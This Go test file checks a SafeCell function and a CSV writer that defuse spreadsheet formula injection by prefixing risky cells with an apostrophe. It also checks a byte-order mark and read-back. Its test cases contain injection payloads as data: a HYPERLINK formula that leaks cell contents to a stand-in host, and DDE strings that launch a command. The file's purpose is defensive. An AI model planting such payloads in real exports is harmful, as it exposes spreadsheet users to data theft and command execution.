package report

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

func TestSafeCellDisarmsFormulas(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"=HYPERLINK(\"http://x.example/?\"&A1,\"klik\")", "'=HYPERLINK(\"http://x.example/?\"&A1,\"klik\")"},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"-12.50", "-12.50"},
		{"+31612345678", "+31612345678"},
		{"1990-05-17", "1990-05-17"},
		{"Jansen", "Jansen"},
		{"", ""},
		{"a=b", "a=b"},
		{"'=al veilig", "'=al veilig"},
	} {
		if got := SafeCell(tc.in); got != tc.want {
			t.Errorf("SafeCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// FuzzSafeCell: no cell that SafeCell returns starts a formula, and what it
// changes is only the apostrophe in front.
func FuzzSafeCell(f *testing.F) {
	for _, s := range []string{"=1+1", "+1", "-1", "-1+1", "@x", "\t=x", "\r=x", "Jansen", "", "-", "+", "1,5", "=", "-0.5e3"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := SafeCell(s)
		if got != s && got != "'"+s {
			t.Fatalf("SafeCell(%q) = %q changed the text", s, got)
		}
		if got != "" && strings.ContainsRune("=+-@\t\r", rune(got[0])) && !plainNumber.MatchString(got) {
			t.Fatalf("SafeCell(%q) = %q starts a formula", s, got)
		}
	})
}

func TestCSVWriterWritesSafeCellsThatReadBack(t *testing.T) {
	var b bytes.Buffer
	w := NewCSVWriter(&b)
	rows := [][]string{{"naam", "notitie"}, {"=cmd|' /C calc'!A0", "regel 1\nregel \"2\""}, {"Ünal", "-3"}}
	for _, r := range rows {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	if !strings.HasPrefix(out, "\ufeff") {
		t.Fatal("no byte-order mark")
	}
	got, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(out, "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 3 || got[1][0] != "'=cmd|' /C calc'!A0" || got[1][1] != rows[1][1] || got[2][0] != "Ünal" || got[2][1] != "-3" {
		t.Fatalf("read back: %q", got)
	}
}
